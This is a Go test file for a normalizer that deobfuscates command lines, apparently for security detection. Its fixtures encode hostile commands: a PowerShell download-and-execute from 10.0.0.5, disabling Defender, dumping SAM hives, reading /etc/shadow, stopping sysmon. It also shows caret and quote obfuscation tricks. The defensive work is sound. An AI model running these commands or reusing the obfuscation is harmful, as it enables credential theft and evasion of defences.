package normalize

import (
	"encoding/base64"
	"encoding/hex"
	"reflect"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// encPS returns base64(UTF-16LE(s)), the -EncodedCommand encoding.
func encPS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i] = byte(c)
		b[2*i+1] = byte(c >> 8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

const (
	// base64(UTF-16LE("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"))
	b64Download = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA="
	// base64(UTF-16LE("Set-MpPreference -DisableRealtimeMonitoring $true"))
	b64Defender = "UwBlAHQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARABpAHMAYQBiAGwAZQBSAGUAYQBsAHQAaQBtAGUATQBvAG4AaQB0AG8AcgBpAG4AZwAgACQAdAByAHUAZQA="
	// base64(UTF-16LE(`reg save HKLM\SAM C:\t\sam.hiv`)), no padding needed.
	b64RegSave = "cgBlAGcAIABzAGEAdgBlACAASABLAEwATQBcAFMAQQBNACAAQwA6AFwAdABcAHMAYQBtAC4AaABpAHYA"
	// base64(UTF-16LE("whoami")) with its "==" padding.
	b64Whoami = "dwBoAG8AYQBtAGkA"
	// base64(UTF-16LE("\ufeffwhoami")): byte order mark first.
	b64WhoamiBOM = "//53AGgAbwBhAG0AaQA="
	// base64(UTF-16LE(`cmd /c r^e^g save hklm\system s.hiv`))
	b64CaretInside = "YwBtAGQAIAAvAGMAIAByAF4AZQBeAGcAIABzAGEAdgBlACAAaABrAGwAbQBcAHMAeQBzAHQAZQBtACAAcwAuAGgAaQB2AA=="
	// base64(UTF-16LE("中文中文中文")): valid UTF-16 but not ASCII-dominated.
	b64CJK = "LU6HZS1Oh2UtTodl"
	// base64("Hello world!"): 12 bytes of ASCII, not UTF-16LE text.
	b64ASCII = "SGVsbG8gd29ybGQh"
	// base64(UTF-16LE("x\x01y")): holds a control character.
	b64Control = "eAABAHkA"
	// base64(UTF-16LE("Get-Process\r\nlsass"))
	b64CRLF = "RwBlAHQALQBQAHIAbwBjAGUAcwBzAA0ACgBsAHMAYQBzAHMA"
	// hex of "/bin/bash\x00-c\x00cat /etc/shadow"
	hexBash = "2F62696E2F62617368002D6300636174202F6574632F736861646F77"
)

func TestText(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
		tr   []string
	}{
		{"empty", "", "", nil},
		{"plain lowercased", `C:\Windows\System32\CMD.EXE /C Dir`, `c:\windows\system32\cmd.exe /c dir`, nil},
		{"unicode lowercase", "ÄÖÜ ΣΑΜ İ", "äöü σαμ i", nil},
		{"whitespace runs and trim", " \t reg\t\tsave \r\n hklm\\sam\n ", `reg save hklm\sam`, []string{TransformControlChars}},
		{"unicode spaces", "reg\u00a0save\u2003hklm\\sam\u3000x", `reg save hklm\sam x`, nil},
		{"nul and controls", "reg\x00save\x1bhklm\\sam\x7f\u0085x", `reg save hklm\sam x`, []string{TransformControlChars}},
		{"invalid utf8 per byte", "a\xff\xfeb\xc3", "a\ufffd\ufffdb\ufffd", []string{TransformInvalidUTF8}},
		{"literal replacement char not flagged", "a\ufffdb", "a\ufffdb", nil},

		{"caret letters", `r^e^g s^a^v^e HKLM\S^A^M`, `reg save hklm\sam`, []string{TransformCaret}},
		{"caret double", `echo a^^b`, `echo a^b`, []string{TransformCaret}},
		{"caret quadruple", `echo a^^^^b`, `echo a^^b`, []string{TransformCaret}},
		{"caret escapes caret then letter", `a^^^b`, `a^b`, []string{TransformCaret}},
		{"caret trailing at end", `net stop windefend^`, `net stop windefend`, []string{TransformCaret}},
		{"caret at line end", "sc stop ^\nsysmon^\r\n", "sc stop sysmon", []string{TransformControlChars, TransformCaret}},
		{"caret escapes pipe", `type a ^| more`, `type a | more`, []string{TransformCaret}},

		{"empty double quotes", `p""ower""shell -c whoami`, `powershell -c whoami`, []string{TransformEmptyQuotes}},
		{"empty single quotes", `w''hoa''mi`, `whoami`, []string{TransformEmptyQuotes}},
		{"real empty argument removed", `tool.exe -p "" -x`, `tool.exe -p -x`, []string{TransformEmptyQuotes}},
		{"nested empty quotes", `po'""'wershell`, `powershell`, []string{TransformEmptyQuotes}},
		{"three quotes keep one", `a"""b`, `a"b`, []string{TransformEmptyQuotes}},
		{"non-empty quotes kept", `cmd /c "reg save hklm\sam s"`, `cmd /c "reg save hklm\sam s"`, nil},
		{"caret then quotes", `p^"^"owershell`, `powershell`, []string{TransformCaret, TransformEmptyQuotes}},

		{"ps -enc", "powershell.exe -NoP -enc " + b64Download,
			`powershell.exe -nop -enc iex (new-object net.webclient).downloadstring('http://10.0.0.5/a.ps1')`,
			[]string{TransformPowerShell}},
		{"ps -EncodedCommand", "PowerShell -EncodedCommand " + b64Defender,
			`powershell -encodedcommand set-mppreference -disablerealtimemonitoring $true`,
			[]string{TransformPowerShell}},
		{"ps -e", "powershell -w hidden -e " + b64Whoami, "powershell -w hidden -e whoami", []string{TransformPowerShell}},
		{"ps -ec", "powershell -ec " + b64Whoami, "powershell -ec whoami", []string{TransformPowerShell}},
		{"ps -ENCO prefix", "powershell -ENCO " + b64Whoami, "powershell -enco whoami", []string{TransformPowerShell}},
		{"ps /enc", "powershell /enc " + b64Whoami, "powershell /enc whoami", []string{TransformPowerShell}},
		{"ps en dash", "powershell \u2013enc " + b64Whoami, "powershell \u2013enc whoami", []string{TransformPowerShell}},
		{"ps padded", "powershell -enc " + b64Whoami + "==", "powershell -enc whoami", []string{TransformPowerShell}},
		{"ps padding-less", "powershell -enc " + strings.TrimRight(b64Defender, "="),
			"powershell -enc set-mppreference -disablerealtimemonitoring $true", []string{TransformPowerShell}},
		{"ps no padding needed", "pwsh -enc " + b64RegSave, `pwsh -enc reg save hklm\sam c:\t\sam.hiv`, []string{TransformPowerShell}},
		{"ps double-quoted arg", `powershell -enc "` + b64Whoami + `"`, "powershell -enc whoami", []string{TransformPowerShell}},
		{"ps single-quoted arg", `powershell -enc '` + b64Whoami + `' ; exit`, "powershell -enc whoami ; exit", []string{TransformPowerShell}},
		{"ps inside cmd quotes", `cmd /c "powershell -enc ` + b64Whoami + `"`, `cmd /c "powershell -enc whoami"`, []string{TransformPowerShell}},
		{"ps bom stripped", "powershell -enc " + b64WhoamiBOM, "powershell -enc whoami", []string{TransformPowerShell}},
		{"ps crlf in script", "powershell -enc " + b64CRLF, "powershell -enc get-process lsass", []string{TransformPowerShell}},
		{"ps caret-obfuscated flag", "powershell -e^n^c " + b64Whoami, "powershell -enc whoami", []string{TransformCaret, TransformPowerShell}},
		{"ps caret-obfuscated blob", "powershell -enc dwBo^AG8A^YQBtAGkA", "powershell -enc whoami", []string{TransformCaret, TransformPowerShell}},
		{"ps quote-obfuscated launcher and flag", `p""owershell -e""nc ` + b64Whoami, "powershell -enc whoami", []string{TransformEmptyQuotes, TransformPowerShell}},
		{"ps decoded script gets caret rule", "powershell -enc " + b64CaretInside,
			`powershell -enc cmd /c reg save hklm\system s.hiv`, []string{TransformPowerShell, TransformCaret}},
		{"ps two blobs", "powershell -enc " + b64Whoami + " & powershell -ec " + b64Defender,
			"powershell -enc whoami & powershell -ec set-mppreference -disablerealtimemonitoring $true", []string{TransformPowerShell}},

		{"ps not utf16: ascii base64", "powershell -enc " + b64ASCII, "powershell -enc " + strings.ToLower(b64ASCII), nil},
		{"ps not ascii-dominated", "powershell -enc " + b64CJK, "powershell -enc " + strings.ToLower(b64CJK), nil},
		{"ps control char", "powershell -enc " + b64Control, "powershell -enc " + strings.ToLower(b64Control), nil},
		{"ps odd byte length", "powershell -enc SGVsbG8=", "powershell -enc sgvsbg8=", nil},
		{"ps bad base64 length", "powershell -enc dwBoA", "powershell -enc dwboa", nil},
		{"ps blob followed by junk", "powershell -enc " + b64Whoami + "-x", "powershell -enc " + strings.ToLower(b64Whoami) + "-x", nil},
		{"ps unterminated quote", `powershell -enc "` + b64Whoami, `powershell -enc "` + strings.ToLower(b64Whoami), nil},
		{"ps other flag", "powershell -ExecutionPolicy " + b64Whoami, "powershell -executionpolicy " + strings.ToLower(b64Whoami), nil},
		{"ps flag glued to word", "x-enc " + b64Whoami, "x-enc " + strings.ToLower(b64Whoami), nil},
		{"ps flag without argument", "powershell -enc", "powershell -enc", nil},

		{"proctitle", "type=PROCTITLE msg=audit(1700000000.123:42): proctitle=" + hexBash,
			"/bin/bash -c cat /etc/shadow", []string{TransformProctitle, TransformAuditCommand}},
		{"auditd quoted proctitle", `type=PROCTITLE msg=audit(1700000000.123:42): proctitle="setenforce 0"`,
			"setenforce 0", []string{TransformAuditCommand}},
		{"auditd record without proctitle stays", `type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 comm="ls"`,
			`type=syscall msg=audit(1700000000.123:42): arch=c000003e syscall=59 comm="ls"`, nil},
		{"proctitle lowercase hex", "proctitle=" + strings.ToLower(hexBash), "proctitle=/bin/bash -c cat /etc/shadow", []string{TransformProctitle}},
		{"proctitle quoted stays", `proctitle="bash"`, `proctitle="bash"`, nil},
		{"proctitle odd length", "proctitle=2F6", "proctitle=2f6", nil},
		{"proctitle not utf8", "proctitle=DEADBEEF", "proctitle=deadbeef", nil},
		{"proctitle control byte", "proctitle=6101", "proctitle=6101", nil},
		{"proctitle trailing non-hex letter", "proctitle=6162zz", "proctitle=6162zz", nil},
		{"proctitle glued key", "xproctitle=" + hexBash, "xproctitle=" + strings.ToLower(hexBash), nil},
		{"bare hex not decoded", hexBash, strings.ToLower(hexBash), nil},
		{"proctitle only nul", "proctitle=00", "proctitle=00", nil},
		{"proctitle twice", "proctitle=6162 proctitle=63", "proctitle=ab proctitle=c", []string{TransformProctitle}},
		{"proctitle with pwsh -enc inside",
			"proctitle=" + hex.EncodeToString([]byte("pwsh\x00-enc\x00"+encPS("Stop-Service WinDefend"))),
			"proctitle=pwsh -enc stop-service windefend", []string{TransformProctitle, TransformPowerShell}},
		{"proctitle with carets inside", "proctitle=" + hex.EncodeToString([]byte("r^e^g\x00save")), "proctitle=reg save",
			[]string{TransformProctitle, TransformCaret}},

		{"all combined",
			"\x00C^M^D /c p\"\"ower^shell\t-W Hidden -e^c \"" + b64RegSave + "\"\xff  ",
			"cmd /c powershell -w hidden -ec reg save hklm\\sam c:\\t\\sam.hiv\ufffd",
			[]string{TransformControlChars, TransformInvalidUTF8, TransformCaret, TransformEmptyQuotes, TransformPowerShell}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Text(tt.in)
			if got.Text != tt.want {
				t.Errorf("Text(%q).Text\n got %q\nwant %q", tt.in, got.Text, tt.want)
			}
			if !reflect.DeepEqual(got.Transforms, tt.tr) {
				t.Errorf("Text(%q).Transforms = %q, want %q", tt.in, got.Transforms, tt.tr)
			}
		})
	}
}

func TestTextNestedPowerShell(t *testing.T) {
	level1 := encPS("whoami /priv")
	level2 := encPS("powershell -enc " + level1)
	level3 := encPS("powershell -e " + level2)
	level4 := encPS("powershell -ec " + level3)
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"one level", "powershell -enc " + level1, "powershell -enc whoami /priv"},
		{"two levels", "powershell -enc " + level2, "powershell -enc powershell -enc whoami /priv"},
		{"three levels", "powershell -enc " + level3, "powershell -enc powershell -e powershell -enc whoami /priv"},
		{"four levels stop at three", "powershell -enc " + level4,
			"powershell -enc powershell -ec powershell -e powershell -enc " + strings.ToLower(level1)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Text(tt.in)
			if got.Text != tt.want {
				t.Errorf("got  %q\nwant %q", got.Text, tt.want)
			}
			if !reflect.DeepEqual(got.Transforms, []string{TransformPowerShell}) {
				t.Errorf("Transforms = %q", got.Transforms)
			}
		})
	}
}

func TestTextLargeInputs(t *testing.T) {
	tests := []struct {
		name string
		in   string
	}{
		{"1MB words", strings.Repeat("reg save hklm\\sam ", 1<<20/18)},
		{"1MB carets", strings.Repeat("^a", 1<<19)},
		{"1MB quotes", strings.Repeat(`"'`, 1<<19)},
		{"1MB dashes", strings.Repeat(" -e ", 1<<18)},
		{"1MB flag and base64", strings.Repeat(" -e "+b64ASCII, 1<<16)},
		{"1MB proctitle keys", strings.Repeat("proctitle=6 ", 1<<17)},
		{"1MB hex", "proctitle=" + strings.Repeat("41", 1<<19)},
		{"1MB invalid", strings.Repeat("\xff", 1<<20)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Text(tt.in)
			checkInvariants(t, tt.in, got)
		})
	}
	// A large encoded command decodes completely.
	script := strings.Repeat("Get-Process lsass; ", 20000)
	got := Text("powershell -enc " + encPS(script))
	want := "powershell -enc " + strings.TrimSpace(strings.ToLower(script))
	if got.Text != want {
		t.Errorf("large encoded command: got %d bytes, want %d", len(got.Text), len(want))
	}
}

func checkInvariants(t *testing.T, in string, got Result) {
	t.Helper()
	s := got.Text
	if !utf8.ValidString(s) {
		t.Fatalf("Text(%q) is not valid UTF-8: %q", in, s)
	}
	if strings.Contains(s, "  ") {
		t.Fatalf("Text(%q) has a double space: %q", in, s)
	}
	if s != strings.TrimSpace(s) {
		t.Fatalf("Text(%q) is not trimmed: %q", in, s)
	}
	if s != strings.ToLower(s) {
		t.Fatalf("Text(%q) is not lowercase: %q", in, s)
	}
	for _, r := range s {
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
			t.Fatalf("Text(%q) holds control char %U: %q", in, r, s)
		}
		if r != ' ' && (r == '\t' || r == '\n' || r == '\r' || r == 0xa0 || r == 0x2003) {
			t.Fatalf("Text(%q) holds white space %U: %q", in, r, s)
		}
		if r >= 'A' && r <= 'Z' {
			t.Fatalf("Text(%q) holds uppercase ASCII: %q", in, s)
		}
	}
	seen := map[string]bool{}
	for _, n := range got.Transforms {
		if seen[n] {
			t.Fatalf("Text(%q) lists %q twice", in, n)
		}
		seen[n] = true
	}
	if strings.IndexByte(in, '^') < 0 && seen[TransformCaret] {
		// Carets can only come from a decoded payload.
		if !seen[TransformPowerShell] && !seen[TransformProctitle] {
			t.Fatalf("Text(%q) reports caret without any caret", in)
		}
	}
}

func FuzzText(f *testing.F) {
	seeds := []string{
		"", "a", "powershell -enc " + b64Download, "powershell -e^n^c " + b64Whoami,
		"proctitle=" + hexBash, `p""ower''shell`, "r^e^g s^a^v^e", "\xff\x00\t\r\n ", "ÄÖÜ İ",
		"powershell \u2013ec \"" + b64RegSave + "\"", "^", `"'"'`, "proctitle=",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := Text(in)
		checkInvariants(t, in, got)
		// Normalizing twice keeps the invariants and never grows the
		// text by more than a decode could (second pass has no
		// invalid UTF-8, control chars or white space to fold).
		again := Text(got.Text)
		checkInvariants(t, got.Text, again)
		for _, n := range again.Transforms {
			if n == TransformInvalidUTF8 || n == TransformControlChars {
				t.Fatalf("second pass on %q reports %q", got.Text, n)
			}
		}
	})
}

func BenchmarkText(b *testing.B) {
	inputs := []struct {
		name string
		in   string
	}{
		{"short", `C:\Windows\system32\reg.exe save HKLM\SAM C:\Temp\sam.save /y`},
		{"obfuscated", "\"C:\\Windows\\System32\\cmd.exe\" /c p\"\"ower^shell -W Hidden -e^c " + b64Download},
		{"1MB", strings.Repeat("reg save hklm\\sam C:\\x ", 1<<20/24)},
	}
	for _, in := range inputs {
		b.Run(in.name, func(b *testing.B) {
			b.SetBytes(int64(len(in.in)))
			b.ReportAllocs()
			for b.Loop() {
				Text(in.in)
			}
		})
	}
}
